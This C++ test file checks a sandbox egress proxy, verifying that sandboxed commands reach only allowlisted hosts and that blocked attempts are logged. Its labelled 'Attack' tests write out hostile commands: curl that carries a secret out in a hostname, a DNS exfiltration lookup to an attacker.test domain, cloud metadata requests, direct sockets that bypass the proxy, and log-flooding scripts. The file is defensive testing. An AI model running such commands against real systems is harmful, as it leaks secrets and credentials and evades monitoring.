// The network boundary of real sandboxes (issue 3): every attempt from inside a sandbox, through
// the engine's egress proxy and airlock-forwarder, against test hosts on the documentation
// ranges in network namespaces this test builds. Nothing leaves the machine: names resolve only
// through the proxy's own table.
#include <fcntl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstddef>
#include <cstring>
#include <thread>

#include "common/files.h"
#include "common/ids.h"
#include "engine/testing/sandbox_fixture.h"
#include "fmt/format.h"
#include "gmock/gmock.h"
#include "netproxy/egress_proxy.h"
#include "netproxy/events.h"
#include "netproxy/testing/test_net.h"
#include "netproxy/testing/test_servers.h"
#include "supervisor/supervisor.h"

namespace airlock::engine {
namespace {

using netproxy::testing::RunCommand;
using netproxy::testing::TestNetwork;
using netproxy::testing::TestServer;

class NetworkTest : public testing::SandboxTest {
 protected:
  void SetUp() override {
    SandboxTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    auto net = TestNetwork::Create();
    if (!net.ok()) GTEST_SKIP() << "cannot build the test network: " << net.status();
    net_ = *std::move(net);
    char tmpl[] = "/tmp/airlock-net-XXXXXX";
    dir_ = mkdtemp(tmpl);
    ASSERT_EQ(chmod(dir_.c_str(), 0755), 0);
    ASSERT_TRUE(MakeDirs(dir_ + "/www").ok());
    for (auto [address, name] : {std::pair{TestNetwork::kHostA, "host-a"},
                                 {TestNetwork::kHostB, "host-b"},
                                 {TestNetwork::kHostC, "host-c"},
                                 {TestNetwork::kPrivateHost, "private"}}) {
      auto s = TestServer::Start(
          {TestServer::Kind::kHttp, address, 80, net_->public_ns(), name, dir_ + "/www"});
      ASSERT_TRUE(s.ok()) << s.status();
      servers_[name] = *std::move(s);
    }
    netproxy::EgressProxy::Options options;
    options.hosts = {{"registry.test", {TestNetwork::kHostA}},
                     {"git.test", {TestNetwork::kHostB}},
                     {"other.test", {TestNetwork::kHostC}},
                     {"internal.test", {TestNetwork::kPrivateHost}},
                     {"meta.test", {"169.254.169.254"}},
                     {"rebind.test", {"169.254.169.254", TestNetwork::kHostC}}};
    options.resolution = netproxy::NameResolution::kHostsOnly;
    options.on_event = [this](const netproxy::EgressEvent& e) {
      blocked_.Record(e);
      std::lock_guard<std::mutex> lock(mu_);
      if (std::holds_alternative<netproxy::PolicyChanged>(e)) ++policy_changes_;
    };
    auto proxy = netproxy::EgressProxy::Start(std::move(options));
    ASSERT_TRUE(proxy.ok()) << proxy.status();
    proxy_ = *std::move(proxy);
  }
  void TearDown() override {
    proxy_.reset();
    servers_.clear();
    net_.reset();
    if (!dir_.empty()) (void)RemoveTree(dir_);
  }

  spec::SandboxSpec Spec(spec::NetworkProfile profile, std::vector<std::string> hosts = {}) {
    spec::SandboxSpec s = WithProbe(TestSpec());
    s.network.profile = profile;
    s.network.allow_hosts = std::move(hosts);
    return s;
  }

  std::unique_ptr<NativeSandbox> Make(const spec::SandboxSpec& s, netproxy::OperatorPolicy op = {},
                                      bool open_later = false) {
    SandboxOptions o;
    o.spec = s;
    o.tools_dir = AIRLOCK_TEST_TOOLS_DIR;
    o.cgroups = cgroups_.get();
    o.egress.proxy = proxy_.get();
    o.egress.blocked = &blocked_;
    o.egress.operator_policy = std::move(op);
    o.egress.open_later = open_later;
    auto sb = NativeSandbox::Create(std::move(o));
    EXPECT_TRUE(sb.ok()) << sb.status();
    return sb.ok() ? *std::move(sb) : nullptr;
  }

  CommandResult Exec(NativeSandbox& sb, std::vector<std::string> argv) {
    auto r = sb.Exec({.argv = std::move(argv)}, {});
    EXPECT_TRUE(r.ok()) << r.status();
    return r.ok() ? *r : CommandResult{};
  }

  CommandResult Curl(NativeSandbox& sb, const std::string& url) {
    return Exec(sb, {"curl", "-sSf", "--max-time", "20", url});
  }

  std::unique_ptr<TestNetwork> net_;
  std::string dir_;
  std::map<std::string, std::unique_ptr<TestServer>> servers_;
  std::unique_ptr<netproxy::EgressProxy> proxy_;
  netproxy::BlockedEventLog blocked_;
  std::mutex mu_;
  int policy_changes_ = 0;
};

TEST_F(NetworkTest, ProfileNoneHasNoRouteAndNoProxy) {
  auto sb = Make(Spec(spec::NetworkProfile::kNone));
  ASSERT_NE(sb, nullptr);
  EXPECT_EQ(Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"}).stdout_preview,
            "connect-tcp: ENETUNREACH\n");
  CommandResult env = Exec(*sb, {"sh", "-c", "env | grep -ci proxy || true"});
  EXPECT_EQ(env.stdout_preview, "0\n");
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, AllowedHostWorksWithCurl) {
  // The test hosts serve on port 80: a CONNECT there needs the port named (a portless pattern
  // allows tunnels to 443 only).
  auto sb =
      Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test", "registry.test:80"}));
  ASSERT_NE(sb, nullptr);
  CommandResult r = Curl(*sb, "http://registry.test/hello");
  EXPECT_EQ(r.classification, Classification::kOk) << r.stderr_preview;
  EXPECT_EQ(r.stdout_preview, "hello from host-a\n");
  // HTTPS-style tunnel (CONNECT) to the same host.
  r = Exec(*sb, {"curl", "-sSf", "--proxytunnel", "http://registry.test/hello"});
  EXPECT_EQ(r.stdout_preview, "hello from host-a\n") << r.stderr_preview;
  EXPECT_TRUE(r.violations.empty());
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, GitClonesOverHttpInRepoEgress) {
  std::string src = dir_ + "/src", bare = dir_ + "/www/repo.git";
  std::vector<std::string> env = {"HOME=" + dir_, "GIT_AUTHOR_NAME=t", "GIT_COMMITTER_NAME=t",
                                  "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_EMAIL=t@t"};
  for (std::vector<std::string> cmd :
       {std::vector<std::string>{"git", "init", "-q", "-b", "main", src},
        {"sh", "-c", "echo through the proxy > " + src + "/README"},
        {"git", "-C", src, "add", "README"},
        {"git", "-C", src, "commit", "-q", "-m", "first"},
        {"git", "clone", "-q", "--bare", src, bare},
        {"git", "-C", bare, "update-server-info"}}) {
    auto out = RunCommand(cmd, env);
    ASSERT_TRUE(out.ok() && out->exit_code == 0) << cmd[0] << " " << out->output;
  }
  auto sb = Make(Spec(spec::NetworkProfile::kRepoEgress, {"git.test"}));
  ASSERT_NE(sb, nullptr);
  CommandResult r =
      Exec(*sb, {"sh", "-c", "git clone -q http://git.test/repo.git c && cat c/README"});
  EXPECT_EQ(r.classification, Classification::kOk) << r.stderr_preview;
  EXPECT_EQ(r.stdout_preview, "through the proxy\n");
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, HostOffTheListIsRefusedAndTheFailureIsNetworkRequired) {
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  CommandResult r = Curl(*sb, "http://other.test/hello");
  EXPECT_EQ(r.classification, Classification::kNetworkRequired) << r.stderr_preview;
  EXPECT_EQ(r.failure, FailureKind::kNetworkRequired);
  EXPECT_EQ(r.failure_detail, "other.test:80");
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].kind, "BlockedNetworkEgress");
  EXPECT_EQ(r.violations[0].data["host"], "other.test");
  EXPECT_EQ(r.violations[0].data["rule"], "not-allowlisted");
  EXPECT_NE(r.report.find("network required: other.test:80"), std::string::npos) << r.report;
  EXPECT_TRUE(servers_["host-c"]->requests().empty()) << "the refused host was contacted";
  DestroyAndCheckGone(std::move(sb));
}

// Attack: carry a registered secret out as the label of a host name the proxy refuses, mixed case
// (the proxy reports names lowercased). Expected: the command is NETWORK_REQUIRED, and neither
// form of the secret is in any field of the result (the refused host, the failure's detail, the
// key lines, the report); the redacted host is named instead.
TEST_F(NetworkTest, ASecretSentAsAHostNameIsRedactedFromTheVerdict) {
  const std::string secret = "Hunter2SecretValue99";
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  auto r = sb->Exec(
      {.argv = {"sh", "-c", "curl -sS --max-time 20 http://$0.example.test/; exit 6", secret}},
      {.secrets = {secret}});
  ASSERT_TRUE(r.ok()) << r.status();
  EXPECT_EQ(r->classification, Classification::kNetworkRequired) << r->stderr_preview;
  const std::string all = ToJson(*r).dump();
  EXPECT_EQ(all.find(secret), std::string::npos) << all;
  EXPECT_EQ(all.find("hunter2secretvalue99"), std::string::npos) << all;
  EXPECT_EQ(r->failure_detail, "[REDACTED:secret].example.test:80");
  EXPECT_NE(r->report.find("network required: [REDACTED:secret].example.test:80"),
            std::string::npos)
      << r->report;
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, NpmCiFromABlockedRegistryIsNetworkRequired) {
  // A project whose lockfile points at a registry the profile does not allow: npm fails, and the
  // result names the host a policy would have to open.
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  std::string setup = R"(cat > package.json <<'J'
{"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}}
J
cat > package-lock.json <<'J'
{"name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
 "packages": {"": {"name": "app", "version": "1.0.0", "dependencies": {"left-pad": "1.3.0"}},
  "node_modules/left-pad": {"version": "1.3.0",
   "resolved": "http://other.test/left-pad/-/left-pad-1.3.0.tgz",
   "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQEO1Dgzx1W0kUFdTxMXDWyRHcqbb9c0Jiry3d9Ob3cTu48A=="}}}
J
npm ci --no-audit --no-fund --fetch-retries=0)";
  CommandResult r = Exec(*sb, {"sh", "-c", setup});
  EXPECT_EQ(r.classification, Classification::kNetworkRequired) << r.stderr_preview;
  EXPECT_EQ(r.failure_detail, "other.test:80");
  EXPECT_NE(r.report.find("network required: other.test:80"), std::string::npos) << r.report;
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, MetadataAndPrivateAddressesAreRefusedEvenWhenOpen) {
  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
  ASSERT_NE(sb, nullptr);
  struct Case {
    const char* url;
    bool metadata;
  } cases[] = {{"http://meta.test/latest/meta-data/", true},
               {"http://169.254.169.254/", true},
               {"http://[fd00:ec2::254]/", true},
               {"http://internal.test/hello", false}};
  for (const Case& c : cases) {
    CommandResult r = Curl(*sb, c.url);
    EXPECT_NE(r.exit_code, 0) << c.url;
    ASSERT_FALSE(r.violations.empty()) << c.url;
    EXPECT_EQ(r.violations[0].data["rule"].get<std::string>().rfind("always-denied:", 0), 0u)
        << c.url << ": " << r.violations[0].data.dump();
    // Metadata can never be opened, so its refusal is a plain failure; a private registry may be
    // opened by the operator, so the command names it as NETWORK_REQUIRED.
    EXPECT_EQ(r.classification == Classification::kNetworkRequired, !c.metadata) << c.url;
  }
  // A name that resolves to both metadata and a public address only ever reaches the public one.
  CommandResult r = Curl(*sb, "http://rebind.test/hello");
  EXPECT_EQ(r.stdout_preview, "hello from host-c\n") << r.stderr_preview;
  EXPECT_TRUE(servers_["private"]->requests().empty());
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, OnlyTheOperatorOpensAPrivateRegistry) {
  netproxy::OperatorPolicy op;
  op.open_private_hosts = {"internal.test"};
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"internal.test"}), op);
  ASSERT_NE(sb, nullptr);
  EXPECT_EQ(Curl(*sb, "http://internal.test/hello").stdout_preview, "hello from private\n");
  DestroyAndCheckGone(std::move(sb));
}

// Attack: a sandbox with the open profile reaches a service of its own node through the node's
// public address, which no interface of the node shows (a NATed cloud address) and which is
// therefore an ordinary public address to the proxy. The operator denies it node-wide
// (denyCidrs): the request is refused with the operator's rule, nothing reaches the server, and
// the deny wins over an open entry for the same address; the other public hosts stay reachable.
TEST_F(NetworkTest, OperatorDenyCidrsCloseTheNodesPublicAddress) {
  netproxy::OperatorPolicy op;
  op.deny_cidrs = {std::string(TestNetwork::kHostC) + "/32"};
  op.open_private_cidrs = {std::string(TestNetwork::kPrivateHost) + "/32"};
  op.deny_cidrs.push_back(std::string(TestNetwork::kPrivateHost) + "/32");
  auto sb = Make(Spec(spec::NetworkProfile::kOpen), op);
  ASSERT_NE(sb, nullptr);
  for (const char* url : {"http://other.test/hello", "http://internal.test/hello"}) {
    CommandResult r = Curl(*sb, url);
    EXPECT_NE(r.exit_code, 0) << url;
    ASSERT_FALSE(r.violations.empty()) << url;
    EXPECT_EQ(r.violations[0].data["rule"].get<std::string>().rfind("operator-deny-cidr:", 0), 0u)
        << url << ": " << r.violations[0].data.dump();
    // Closed on purpose by the node's operator: not a network the command could be given.
    EXPECT_NE(r.classification, Classification::kNetworkRequired) << url;
  }
  EXPECT_TRUE(servers_["host-c"]->requests().empty());
  EXPECT_TRUE(servers_["private"]->requests().empty());
  EXPECT_EQ(Curl(*sb, "http://registry.test/hello").stdout_preview, "hello from host-a\n");
  DestroyAndCheckGone(std::move(sb));
}

// Attack: tools that ignore the proxy variables connect or send straight to a public address.
// Expected: the kernel refuses each at once (no route), and each attempt is a
// BlockedNetworkEgress of the command that made it (rule direct-connect, the address and port,
// the system call as its method). No policy would let it through, so a command that fails after
// one is not NETWORK_REQUIRED.
TEST_F(NetworkTest, ToolsThatIgnoreTheProxyGetNoNetwork) {
  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
  ASSERT_NE(sb, nullptr);
  CommandResult r = Exec(*sb, {"curl", "-sS", "--noproxy", "*", "--max-time", "5",
                               std::string("http://") + TestNetwork::kHostA + "/hello"});
  EXPECT_EQ(r.exit_code, 7) << r.stderr_preview;
  EXPECT_EQ(r.classification, Classification::kExitNonzero);
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].detail,
            std::string("egress to ") + TestNetwork::kHostA + ":80 blocked by direct-connect");
  EXPECT_EQ(r.violations[0].data["rule"], "direct-connect");
  EXPECT_EQ(r.violations[0].data["resolved_address"], TestNetwork::kHostA);
  EXPECT_EQ(r.violations[0].data["method"], "connect");
  r = Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"});
  EXPECT_EQ(r.stdout_preview, "connect-tcp: ENETUNREACH\n");
  EXPECT_EQ(r.violations.size(), 1u);
  r = Exec(*sb, {"/opt/probe", "udp-send", TestNetwork::kHostA, "53"});
  EXPECT_EQ(r.stdout_preview, "udp-send: ENETUNREACH\n");
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].data["method"], "sendto");
  EXPECT_EQ(r.violations[0].data["port"], 53);
  EXPECT_EQ(Exec(*sb, {"/opt/probe", "raw-socket"}).stdout_preview, "raw-socket: EPERM\n");
  // Ping sockets are off in a fresh namespace (net.ipv4.ping_group_range is empty).
  EXPECT_EQ(Exec(*sb, {"/opt/probe", "ping-socket"}).stdout_preview, "ping-socket: EACCES\n");
  EXPECT_TRUE(servers_["host-a"]->requests().empty());
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, DnsExfiltrationGetsNoAnswer) {
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  // No resolver in the sandbox: the lookup fails at once, without a packet leaving.
  CommandResult r = Exec(*sb, {"getent", "hosts", "c2VjcmV0.attacker.test"});
  EXPECT_EQ(r.exit_code, 2);
  EXPECT_LT(r.duration_ms, 2000);
  // Through the proxy, a name off the list is refused before it is ever resolved.
  r = Curl(*sb, "http://c2VjcmV0.attacker.test/");
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].data["resolved_address"], "");
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, HostAbstractSocketsAreUnreachable) {
  std::string name = "airlock-test-" + RandomHex(4);
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path + 1, name.data(), name.size());
  socklen_t len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  UniqueFd listener(socket(AF_UNIX, SOCK_STREAM, 0));
  ASSERT_EQ(bind(listener.get(), reinterpret_cast<sockaddr*>(&addr), len), 0);
  ASSERT_EQ(listen(listener.get(), 4), 0);
  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
  ASSERT_NE(sb, nullptr);
  EXPECT_EQ(Exec(*sb, {"/opt/probe", "abstract-connect", name}).stdout_preview,
            "abstract-connect: ECONNREFUSED\n");
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, SandboxesAreServedOnlyUnderTheirOwnPolicy) {
  auto a = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  auto b = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"other.test"}));
  ASSERT_NE(a, nullptr);
  ASSERT_NE(b, nullptr);
  EXPECT_EQ(Curl(*b, "http://other.test/hello").stdout_preview, "hello from host-c\n");
  // A's forwarder and socket are its own: what B may reach, A may not.
  CommandResult r = Curl(*a, "http://other.test/hello");
  EXPECT_EQ(r.classification, Classification::kNetworkRequired);
  EXPECT_EQ(Exec(*a, {"sh", "-c", "ls /run"}).stdout_preview, "egress.sock\n");
  DestroyAndCheckGone(std::move(a));
  DestroyAndCheckGone(std::move(b));
}

TEST_F(NetworkTest, PolicyChangesWithoutRestart) {
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  EXPECT_EQ(Curl(*sb, "http://other.test/hello").classification, Classification::kNetworkRequired);
  spec::Network wider;
  wider.profile = spec::NetworkProfile::kDependencyEgress;
  wider.allow_hosts = {"registry.test", "other.test"};
  // Loosening needs the caller's authority.
  EXPECT_EQ(sb->UpdateNetworkPolicy(wider, netproxy::PolicyAuthority::kTightenOnly).status().code(),
            absl::StatusCode::kPermissionDenied);
  absl::StatusOr<netproxy::PolicyChanged> loosened =
      sb->UpdateNetworkPolicy(wider, netproxy::PolicyAuthority::kMayLoosen);
  ASSERT_TRUE(loosened.ok()) << loosened.status();
  EXPECT_TRUE(loosened->loosened);
  EXPECT_EQ(Curl(*sb, "http://other.test/hello").stdout_preview, "hello from host-c\n");
  spec::Network narrower;
  narrower.profile = spec::NetworkProfile::kDependencyEgress;
  narrower.allow_hosts = {"other.test"};
  absl::StatusOr<netproxy::PolicyChanged> tightened =
      sb->UpdateNetworkPolicy(narrower, netproxy::PolicyAuthority::kTightenOnly);
  ASSERT_TRUE(tightened.ok()) << tightened.status();
  EXPECT_FALSE(tightened->loosened);
  EXPECT_EQ(Curl(*sb, "http://registry.test/hello").classification,
            Classification::kNetworkRequired);
  {
    std::lock_guard<std::mutex> lock(mu_);
    EXPECT_EQ(policy_changes_, 2) << "every change is an audit event";
  }
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, ANoneSandboxCreatedWithoutItsPathCannotBeOpened) {
  // airlock run's one-shot sandboxes: no socket, no forwarder, nothing to open later.
  auto sb = Make(Spec(spec::NetworkProfile::kNone));
  ASSERT_NE(sb, nullptr);
  spec::Network registry;
  registry.profile = spec::NetworkProfile::kDependencyEgress;
  registry.allow_hosts = {"registry.test:80"};
  absl::StatusOr<netproxy::PolicyChanged> opened =
      sb->UpdateNetworkPolicy(registry, netproxy::PolicyAuthority::kMayLoosen);
  EXPECT_EQ(opened.status().code(), absl::StatusCode::kFailedPrecondition) << opened.status();
  EXPECT_EQ(Exec(*sb, {"sh", "-c", "ls /run"}).stdout_preview, "");
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, ANoneSandboxWithItsPathKeptOpensWhileItRuns) {
  auto sb = Make(Spec(spec::NetworkProfile::kNone), {}, /*open_later=*/true);
  ASSERT_NE(sb, nullptr);
  // Under none: no route, no proxy variables, no forwarder on the loopback.
  EXPECT_EQ(Exec(*sb, {"/opt/probe", "connect-tcp", TestNetwork::kHostA, "80"}).stdout_preview,
            "connect-tcp: ENETUNREACH\n");
  EXPECT_EQ(Exec(*sb, {"sh", "-c", "env | grep -ci proxy || true"}).stdout_preview, "0\n");
  EXPECT_EQ(Exec(*sb, {"curl", "-sS", "--proxy", "http://127.0.0.1:3128", "http://registry.test/"})
                .exit_code,
            7)
      << "nothing listens on the proxy port";
  // Attack: a command talks to the kept socket itself. The proxy refuses under none, and the
  // attempt is a BlockedNetworkEgress of that command.
  CommandResult direct = Exec(
      *sb,
      {"python3", "-c",
       "import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/egress.sock'); "
       "s.sendall(b'CONNECT registry.test:80 HTTP/1.1\\r\\nHost: registry.test:80\\r\\n\\r\\n'); "
       "print(s.recv(200).split(b'\\r\\n')[0].decode())"});
  EXPECT_EQ(direct.stdout_preview.substr(0, 12), "HTTP/1.1 403") << direct.stderr_preview;
  ASSERT_EQ(direct.violations.size(), 1u);
  EXPECT_EQ(direct.violations[0].data["rule"], "profile:none");

  spec::Network registry;
  registry.profile = spec::NetworkProfile::kDependencyEgress;
  registry.allow_hosts = {"registry.test:80"};
  // Opening is loosening: refused without the caller's authority, and nothing starts.
  EXPECT_EQ(
      sb->UpdateNetworkPolicy(registry, netproxy::PolicyAuthority::kTightenOnly).status().code(),
      absl::StatusCode::kPermissionDenied);
  EXPECT_EQ(Exec(*sb, {"sh", "-c", "env | grep -ci proxy || true"}).stdout_preview, "0\n");
  absl::StatusOr<netproxy::PolicyChanged> opened =
      sb->UpdateNetworkPolicy(registry, netproxy::PolicyAuthority::kMayLoosen);
  ASSERT_TRUE(opened.ok()) << opened.status();
  EXPECT_TRUE(opened->loosened);
  // The next command has the proxy variables and reaches the allowed host, and only that one.
  CommandResult r = Curl(*sb, "http://registry.test/hello");
  EXPECT_EQ(r.stdout_preview, "hello from host-a\n") << r.stderr_preview;
  EXPECT_EQ(Curl(*sb, "http://other.test/hello").classification, Classification::kNetworkRequired);
  // Back to none: the forwarder stays, the proxy refuses everything again.
  spec::Network none;
  ASSERT_TRUE(sb->UpdateNetworkPolicy(none, netproxy::PolicyAuthority::kTightenOnly).ok());
  r = Curl(*sb, "http://registry.test/hello");
  EXPECT_NE(r.exit_code, 0);
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].data["rule"], "profile:none");
  {
    std::lock_guard<std::mutex> lock(mu_);
    EXPECT_EQ(policy_changes_, 2) << "every change is an audit event";
  }
  DestroyAndCheckGone(std::move(sb));
}

TEST_F(NetworkTest, BlockedAttemptsAreListedWithTheCommandThatMadeThem) {
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  // Each command's proxy URL names it.
  EXPECT_THAT(Exec(*sb, {"sh", "-c", "echo \"$HTTP_PROXY\""}).stdout_preview,
              ::testing::MatchesRegex("http://cmd-[0-9]+:@127\\.0\\.0\\.1:3128\n"));
  // A command that fails on its own while another one is refused a host: the refusal is the
  // second one's only, so the first is not taken for NETWORK_REQUIRED.
  CommandResult slow;
  std::thread first([&] { slow = Exec(*sb, {"sh", "-c", "sleep 1.5; exit 3"}); });
  std::this_thread::sleep_for(std::chrono::milliseconds(300));
  CommandResult refused = Curl(*sb, "http://other.test/hello");
  first.join();
  EXPECT_EQ(refused.classification, Classification::kNetworkRequired);
  ASSERT_EQ(refused.violations.size(), 1u);
  EXPECT_EQ(refused.violations[0].data["host"], "other.test");
  EXPECT_EQ(slow.classification, Classification::kExitNonzero);
  EXPECT_TRUE(slow.violations.empty()) << slow.violations.size() << " violations";
  // Attack: a command names a command that does not run, to keep its refusal out of every
  // result. Expected: a name of no running command hides nothing; the refusal is listed.
  CommandResult renamed = Exec(*sb, {"curl", "-sSf", "--max-time", "20", "--proxy",
                                     "http://cmd-999:@127.0.0.1:3128", "http://other.test/hello"});
  ASSERT_EQ(renamed.violations.size(), 1u);
  EXPECT_EQ(renamed.violations[0].data["host"], "other.test");
  EXPECT_EQ(renamed.classification, Classification::kNetworkRequired);
  DestroyAndCheckGone(std::move(sb));
}

// Attack: while one command runs, another ignores the proxy and connects to an IPv6 address, in
// a sandbox of airlock run's kind (profile none, no path out at all). Expected: the connect fails
// (ENETUNREACH) and is listed with that command only, named by its cgroup; the proxy's
// variables and socket play no part.
TEST_F(NetworkTest, DirectConnectsAreListedWithTheCommandThatMadeThem) {
  auto sb = Make(Spec(spec::NetworkProfile::kNone));
  ASSERT_NE(sb, nullptr);
  // The first command runs until the second has made its attempt (a file in the sandbox's /tmp
  // says so), however slowly either starts.
  CommandResult quiet;
  std::thread first([&] {
    quiet = Exec(*sb, {"sh", "-c",
                       "touch /tmp/started; for i in $(seq 300); do [ -e /tmp/tried ] && exit 3; "
                       "sleep 0.05; done; exit 4"});
  });
  CommandResult r = Exec(*sb, {"python3", "-c",
                               "import os, socket, time\n"
                               "while not os.path.exists('/tmp/started'): time.sleep(0.02)\n"
                               "try:\n"
                               "    socket.create_connection(('2001:db8::7', 443), timeout=5)\n"
                               "except OSError as e:\n"
                               "    print(e.errno == 101)\n"
                               "open('/tmp/tried', 'w').close()\n"});
  first.join();
  EXPECT_EQ(r.stdout_preview, "True\n") << r.stderr_preview;
  ASSERT_EQ(r.violations.size(), 1u);
  EXPECT_EQ(r.violations[0].data["host"], "[2001:db8::7]");
  EXPECT_EQ(r.violations[0].data["port"], 443);
  EXPECT_EQ(r.violations[0].data["rule"], "direct-connect");
  EXPECT_EQ(quiet.exit_code, 3) << "the first command was not running during the attempt";
  EXPECT_TRUE(quiet.violations.empty()) << quiet.violations.size() << " violations";
  // Loopback stays the sandbox's own business: nothing is reported for it.
  EXPECT_TRUE(Exec(*sb, {"/opt/probe", "connect-tcp", "127.0.0.1", "9"}).violations.empty());
  DestroyAndCheckGone(std::move(sb));
}

// Attack: a command is refused a host by the proxy, then floods direct sends (2,000 addresses,
// each sent to 5 times), hoping to push that refusal out of the sandbox's bounded event log
// (1,000) so that its failure is not taken for NETWORK_REQUIRED. Expected: a command's direct
// attempts are recorded 256 at most, each repeat once a second at most; the refusal stays and
// the command is NETWORK_REQUIRED naming the host.
TEST_F(NetworkTest, AFloodOfDirectAttemptsHidesNoRefusal) {
  auto sb = Make(Spec(spec::NetworkProfile::kDependencyEgress, {"registry.test"}));
  ASSERT_NE(sb, nullptr);
  CommandResult r = Exec(*sb, {"sh", "-c",
                               "curl -sSf --max-time 20 http://other.test/hello; python3 -c \"\n"
                               "import socket\n"
                               "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                               "for _ in range(5):\n"
                               "    for port in range(1, 2001):\n"
                               "        try: s.sendto(b'x', ('192.0.2.1', port))\n"
                               "        except OSError: pass\n"
                               "\"; exit 1"});
  EXPECT_EQ(r.classification, Classification::kNetworkRequired) << r.stderr_preview;
  EXPECT_EQ(r.failure_detail, "other.test:80");
  ASSERT_EQ(r.violations.size(), 65u) << "the result lists 64 at most, then a count";
  EXPECT_EQ(r.violations[0].data["host"], "other.test");
  EXPECT_EQ(r.violations[64].kind, "BlockedNetworkEgressOmitted");
  EXPECT_GT(r.violations[64].data["omitted"].get<int64_t>(), 9000);
  DestroyAndCheckGone(std::move(sb));
}

// Attack: hide an attempt on the cloud metadata address behind a flood of refusals through the
// proxy (600 CONNECTs to distinct private addresses, each refused, then 70 repeats of one), made
// by the same command, which names itself to the proxy as any tool does; then try the metadata
// address through the proxy and directly. Expected: both metadata attempts are recorded and
// listed first, the flood is cut to the command's budget, and the result says how many attempts
// it does not list.
TEST_F(NetworkTest, AFloodOfRefusalsDoesNotHideAMetadataAttempt) {
  auto sb = Make(Spec(spec::NetworkProfile::kOpen));
  ASSERT_NE(sb, nullptr);
  CommandResult r = Exec(
      *sb, {"sh", "-c",
            "python3 -c \"\n"
            "import base64, os, socket, urllib.parse\n"
            "proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
            "auth = base64.b64encode((proxy.username + ':').encode()).decode()\n"
            "def connect(host):\n"
            "    s = socket.create_connection((proxy.hostname, proxy.port))\n"
            "    s.sendall(('CONNECT %s:443 HTTP/1.1\\r\\nHost: x\\r\\n'\n"
            "               'Proxy-Authorization: Basic %s\\r\\n\\r\\n' % (host, auth)).encode())\n"
            "    s.recv(4096)\n"
            "    s.close()\n"
            "for i in range(600): connect('10.0.%d.%d' % (i // 250, i % 250 + 1))\n"
            "for i in range(70): connect('10.9.9.9')\n"
            "\"; curl -sS --max-time 20 http://169.254.169.254/latest/meta-data/; "
            "/opt/probe connect-tcp 169.254.169.254 80; exit 1"});
  EXPECT_EQ(r.exit_code, 1) << r.stderr_preview;
  ASSERT_EQ(r.violations.size(), 65u) << r.stderr_preview;
  EXPECT_EQ(r.violations[0].data["rule"], "always-denied:169.254.0.0/16 (metadata)");
  EXPECT_EQ(r.violations[1].data["rule"], "direct-connect");
  EXPECT_EQ(r.violations[1].data["host"], "169.254.169.254");
  EXPECT_EQ(r.violations[2].data["host"], "10.0.0.1");
  EXPECT_EQ(r.violations[64].kind, "BlockedNetworkEgressOmitted");
  // 672 attempts, 64 listed.
  EXPECT_EQ(r.violations[64].data["omitted"], 672 - 64);
  DestroyAndCheckGone(std::move(sb));
}

// Attack: as above, in sandboxes with a syscall supervisor, whose filter leaves no room for the
// connect observer; then 100 refused connects to distinct addresses (more than the supervisor's
// own report keeps) ahead of one to the metadata address. Expected: with a policy that routes
// connect and the addressed sends, the supervisor's record of them stands in: the same
// direct-connect violation, under notify and under ptrace; the metadata attempt is listed first,
// 64 attempts in all and a count of the 37 left out, and the command is EXIT_NONZERO (no policy
// would let a direct connect through), as with the connect observer.
TEST_F(NetworkTest, UnderASupervisorTheRoutedConnectsAreListedToo) {
  int modes = 0;
